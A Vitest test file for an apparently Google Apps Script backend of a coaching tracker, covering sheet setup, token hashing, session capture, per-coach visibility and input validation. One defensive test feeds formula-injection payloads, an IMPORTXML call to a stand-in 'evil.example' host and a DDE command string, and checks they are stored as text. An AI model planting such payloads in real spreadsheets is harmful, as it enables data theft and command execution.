// The built bundle (dist/apps-script/Code.js, the file clasp pushes) evaluated in a context that holds
// only ECMAScript built-ins and Apps Script services; doPost is called by name.
import { beforeEach, describe, expect, it } from 'vitest';
import { columnsOf } from '../../shared/schema';
import { captureBody, newProgram, type TestProgram } from '../helpers/runtime';

const started = '2026-11-20T15:00:00Z';

describe('Apps Script bundle', () => {
  let p: TestProgram;
  beforeEach(() => {
    p = newProgram();
  });

  it('setupSheet creates every tab with the header of the schema, and is idempotent', () => {
    for (const tab of ['Coaches', 'Clients', 'Goals', 'Sessions', 'ActionItems', 'Prep', 'EmailLog', 'Settings'] as const) {
      const sheet = p.rt.data.sheets.find((s) => s.name === tab)!;
      expect(sheet.cells[0]).toEqual(columnsOf(tab));
      expect(sheet.frozenRows).toBe(1);
    }
    expect(p.rt.data.sheets.some((s) => s.name === 'Dashboard')).toBe(true);
    // A second run changes no tab but the Dashboard, which it writes afresh.
    const dataTabs = () => JSON.stringify(p.rt.data.sheets.filter((s) => s.name !== 'Dashboard'));
    const before = dataTabs();
    expect(p.rt.call('setupSheet')).toEqual({ created: [], columnsAdded: [], namesFilled: 0 });
    expect(dataTabs()).toBe(before);
    expect(p.rt.data.sheets.find((s) => s.name === 'Dashboard')!.cells[0]![0]).toMatch(/coaching dashboard/);
  });

  it('setupSheet adds missing columns to an older sheet and keeps its rows', () => {
    // An older Clients tab: only its first five columns, and one client.
    const width = columnsOf('Clients').length;
    p.write('Clients', 1, 6, [Array(width - 5).fill('')]);
    p.write('Clients', 2, 1, [['c1', 'Old Client', 'old@example.org', 'Org', p.coachId]]);
    const report = p.rt.call('setupSheet') as { columnsAdded: string[] };
    expect(report.columnsAdded).toContain('Clients.updated_at');
    const clients = p.rt.data.sheets.find((s) => s.name === 'Clients')!;
    expect(clients.cells[0]).toEqual(columnsOf('Clients'));
    expect(clients.cells[1]!.slice(0, 5)).toEqual(['c1', 'Old Client', 'old@example.org', 'Org', p.coachId]);
  });

  it('setupSheet names the client on older Sessions and ActionItems rows', () => {
    p.post(captureBody(p));
    const nameColumn = (tab: 'Sessions' | 'ActionItems') => (columnsOf(tab) as string[]).indexOf('client_name') + 1;
    // Rows written before client_name existed: the cell is empty.
    p.write('Sessions', 2, nameColumn('Sessions'), [['']]);
    p.write('ActionItems', 2, nameColumn('ActionItems'), [[''], ['']]);
    expect(p.rt.call('setupSheet')).toMatchObject({ namesFilled: 3 });
    expect(p.rows('Sessions')[0]![nameColumn('Sessions') - 1]).toBe('Maya Thompson');
    expect(p.rows('ActionItems').map((r) => r[nameColumn('ActionItems') - 1])).toEqual(['Maya Thompson', 'Maya Thompson']);
  });

  it('hello answers the coach, the sheet and the server version', () => {
    const answer = p.post({ v: 1, op: 'hello', token: p.token });
    expect(answer).toMatchObject({
      ok: true,
      coach: { coach_id: p.coachId, name: 'Ana Rivera', role: 'coach' },
      sheet: { timeZone: 'America/New_York' },
    });
    expect(answer.server.version).toMatch(/^\d+\.\d+\.\d+/);
  });

  it('tokens are stored only as hashes', () => {
    const coaches = JSON.stringify(p.rows('Coaches'));
    expect(coaches).not.toContain(p.token);
    expect(coaches).toMatch(/[0-9a-f]{64}/);
  });

  it('capture writes one session, its action items and a new client', () => {
    const answer = p.post(captureBody(p));
    expect(answer.ok).toBe(true);
    expect(answer.duplicate).toBe(false);
    expect(answer.itemIds).toHaveLength(2);
    const sessions = p.rows('Sessions');
    expect(sessions).toHaveLength(1);
    const col = (tab: 'Sessions' | 'ActionItems' | 'Clients', name: string) => (columnsOf(tab) as string[]).indexOf(name);
    expect(sessions[0]![col('Sessions', 'session_id')]).toBe(answer.sessionId);
    expect(sessions[0]![col('Sessions', 'duration_min')]).toBe(50);
    expect(sessions[0]![col('Sessions', 'started_at')]).toEqual({ d: Date.parse(started) });
    const items = p.rows('ActionItems');
    expect(items.map((r) => r[col('ActionItems', 'text')])).toEqual(['Try a countdown timer', 'Send the video clip']);
    expect(items.map((r) => r[col('ActionItems', 'status')])).toEqual(['open', 'open']);
    // A calendar date is midnight in the sheet's time zone (New York, UTC-5 in November).
    expect(items[0]![col('ActionItems', 'due_date')]).toEqual({ d: Date.parse('2026-11-27T05:00:00Z') });
    const clients = p.rows('Clients');
    expect(clients).toHaveLength(1);
    expect(clients[0]![col('Clients', 'client_id')]).toBe(answer.clientId);
    expect(clients[0]![col('Clients', 'coach_id')]).toBe(p.coachId);
  });

  it('a repeated captureId writes nothing and answers the same ids', () => {
    const body = captureBody(p);
    const first = p.post(body);
    const before = p.snapshot();
    const again = p.post(body);
    expect(again).toEqual({ ...first, duplicate: true });
    expect(p.snapshot()).toBe(before);
  });

  it('user text beginning with =, +, - or @ is stored as text, never a formula', () => {
    const notes = '=IMPORTXML("http://evil.example","//a")';
    const answer = p.post(
      captureBody(
        p,
        {
          actionItems: [{ text: '+1 555 0100' }, { text: '-2' }, { text: '@coach check in' }, { text: 'TRUE' }],
        },
        { notes, newClient: { name: '=cmd|"/c calc"!A1' } },
      ),
    );
    expect(answer.ok).toBe(true);
    const session = p.rows('Sessions')[0]!;
    expect(session[(columnsOf('Sessions') as string[]).indexOf('notes')]).toBe(notes);
    const texts = p.rows('ActionItems').map((r) => r[(columnsOf('ActionItems') as string[]).indexOf('text')]);
    expect(texts).toEqual(['+1 555 0100', '-2', '@coach check in', 'TRUE']);
    expect(p.rows('Clients')[0]![1]).toBe('=cmd|"/c calc"!A1');
    expect(p.snapshot()).not.toContain('"f":');
  });

  it('sync shows a coach only their own clients; a leader sees all', () => {
    const other = p.invite('Ben Ortiz', 'ben@example.org');
    const leader = p.invite('Lee Park', 'lee@example.org', 'leader');
    p.post(captureBody(p));
    p.post({ ...captureBody(p), token: other.token, captureId: 'other-1', session: { newClient: { name: 'Zed' }, startedAt: started } });
    const mine = p.post({ v: 1, op: 'sync', token: p.token });
    expect(mine.clients.map((c: { name: string }) => c.name)).toEqual(['Maya Thompson']);
    expect(mine.openItems).toHaveLength(2);
    expect(mine.openItems[0].due_date).toBe('2026-11-27T05:00:00.000Z');
    const all = p.post({ v: 1, op: 'sync', token: leader.token });
    expect(all.clients.map((c: { name: string }) => c.name).sort()).toEqual(['Maya Thompson', 'Zed']);
    // A coach cannot capture for another coach's client.
    const zed = all.clients.find((c: { name: string }) => c.name === 'Zed').client_id;
    const before = p.snapshot();
    const refused = p.post(captureBody(p, {}, { newClient: undefined, clientId: zed }));
    expect(refused.error).toMatchObject({ code: 'bad_request', field: 'session.clientId' });
    expect(p.snapshot()).toBe(before);
  });

  it('a debrief updates earlier items of the same client', () => {
    const first = p.post(captureBody(p));
    const second = p.post(
      captureBody(
        p,
        {
          actionItems: [],
          debrief: [
            { itemId: first.itemIds[0], status: 'done' },
            { itemId: first.itemIds[1], status: 'derailed', note: 'Clip was too long' },
          ],
        },
        { newClient: undefined, clientId: first.clientId },
      ),
    );
    expect(second.ok).toBe(true);
    const cols = columnsOf('ActionItems') as string[];
    const items = p.rows('ActionItems');
    expect(items.map((r) => r[cols.indexOf('status')])).toEqual(['done', 'derailed']);
    expect(items[1]![cols.indexOf('status_note')]).toBe('Clip was too long');
    expect(items[0]![cols.indexOf('completed_at')]).toHaveProperty('d');
    expect(items[1]![cols.indexOf('completed_at')]).toBeNull();
  });

  it("a debrief from an older list never moves a closed item backwards; updateItems, the coach's explicit choice, may", () => {
    const first = p.post(captureBody(p));
    const cols = columnsOf('ActionItems') as string[];
    const client = { newClient: undefined, clientId: first.clientId };
    expect(
      p.post(captureBody(p, { captureId: 'c2', actionItems: [], debrief: [{ itemId: first.itemIds[0], status: 'done' }] }, client)).ok,
    ).toBe(true);
    const completedAt = p.rows('ActionItems')[0]![cols.indexOf('completed_at')];
    expect(completedAt).toHaveProperty('d');
    // A panel that still showed the item as open marks it "in progress": the item stays done.
    const stale = p.post(
      captureBody(
        p,
        { captureId: 'c3', actionItems: [], debrief: [{ itemId: first.itemIds[0], status: 'in_progress', note: 'Half way' }] },
        client,
      ),
    );
    expect(stale.ok).toBe(true);
    expect(p.rows('ActionItems')[0]![cols.indexOf('status')]).toBe('done');
    expect(p.rows('ActionItems')[0]![cols.indexOf('completed_at')]).toEqual(completedAt);
    // Reopening on purpose goes through updateItems.
    expect(p.post({ v: 1, op: 'updateItems', token: p.token, updates: [{ itemId: first.itemIds[0], status: 'in_progress' }] }).ok).toBe(
      true,
    );
    expect(p.rows('ActionItems')[0]![cols.indexOf('status')]).toBe('in_progress');
  });

  it('keeps a call participant the coach matched by hand as an alias of the client, once', () => {
    const first = p.post(captureBody(p));
    for (const id of ['a1', 'a2']) {
      p.post(
        captureBody(
          p,
          { captureId: id, actionItems: [] },
          { newClient: undefined, clientId: first.clientId, participantAlias: 'Maya T. (Guest)' },
        ),
      );
    }
    const cols = columnsOf('Clients') as string[];
    expect(p.rows('Clients')[0]![cols.indexOf('aliases')]).toBe('Maya T. (Guest)');
  });

  describe('bad input answers a JSON error and writes nothing', () => {
    const cases: Array<[string, (p: TestProgram) => unknown, string, string?]> = [
      ['a body that is not JSON', () => 'capture please', 'bad_json'],
      ['a JSON array', () => '[1,2]', 'bad_json'],
      ['an unknown op', (p) => ({ v: 1, op: 'delete', token: p.token }), 'bad_request', 'op'],
      ['a missing token', () => ({ v: 1, op: 'hello' }), 'unauthorized'],
      ['a wrong token', () => ({ v: 1, op: 'hello', token: 'ftk_wrong' }), 'unauthorized'],
      ['a wrong API version', (p) => ({ v: 2, op: 'hello', token: p.token }), 'bad_request', 'v'],
      [
        'a client that does not exist',
        (p) => captureBody(p, {}, { newClient: undefined, clientId: 'cli_missing' }),
        'bad_request',
        'session.clientId',
      ],
      ['a missing captureId', (p) => ({ ...captureBody(p), captureId: undefined }), 'bad_request', 'captureId'],
      ['a missing startedAt', (p) => captureBody(p, {}, { startedAt: undefined }), 'bad_request', 'session.startedAt'],
      ['a bad due date', (p) => captureBody(p, { actionItems: [{ text: 'x', due: '2026-02-30' }] }), 'bad_request', 'actionItems.0.due'],
      ['an empty action item', (p) => captureBody(p, { actionItems: [{ text: '   ' }] }), 'bad_request', 'actionItems.0.text'],
      ['an unknown owner', (p) => captureBody(p, { actionItems: [{ text: 'x', owner: 'boss' }] }), 'bad_request', 'actionItems.0.owner'],
      [
        'a debrief of an unknown item',
        (p) => captureBody(p, { debrief: [{ itemId: 'itm_nope', status: 'done' }] }),
        'bad_request',
        'debrief.0.itemId',
      ],
      [
        'an unknown goal',
        (p) => captureBody(p, { actionItems: [{ text: 'x', goalId: 'gol_nope' }] }),
        'bad_request',
        'actionItems.0.goalId',
      ],
      ['an end before the start', (p) => captureBody(p, {}, { endedAt: '2026-11-20T14:00:00Z' }), 'bad_request', 'session.endedAt'],
      ['a body over the size limit', (p) => JSON.stringify({ ...captureBody(p), pad: 'x'.repeat(500_000) }), 'too_large'],
    ];
    for (const [what, body, code, field] of cases) {
      it(what, () => {
        const before = p.snapshot();
        const answer = p.post(body(p));
        expect(answer.ok).toBe(false);
        expect(answer.error.code).toBe(code);
        expect(typeof answer.error.message).toBe('string');
        if (field) expect(answer.error.field).toBe(field);
        expect(p.snapshot()).toBe(before);
      });
    }
  });

  it('a revoked coach is refused at once', () => {
    const cols = columnsOf('Coaches') as string[];
    p.write('Coaches', 2, cols.indexOf('active') + 1, [[false]]);
    expect(p.post({ v: 1, op: 'hello', token: p.token }).error.code).toBe('unauthorized');
  });

  it('appends past the 1000-row grid of a new sheet by growing it', () => {
    const first = p.post(captureBody(p));
    const items = Array.from({ length: 100 }, (_, i) => ({ text: `item ${i}` }));
    for (let i = 0; i < 10; i++) {
      const a = p.post(captureBody(p, { actionItems: items }, { newClient: undefined, clientId: first.clientId }));
      expect(a.ok).toBe(true);
    }
    expect(p.rows('ActionItems')).toHaveLength(1002);
  });
});
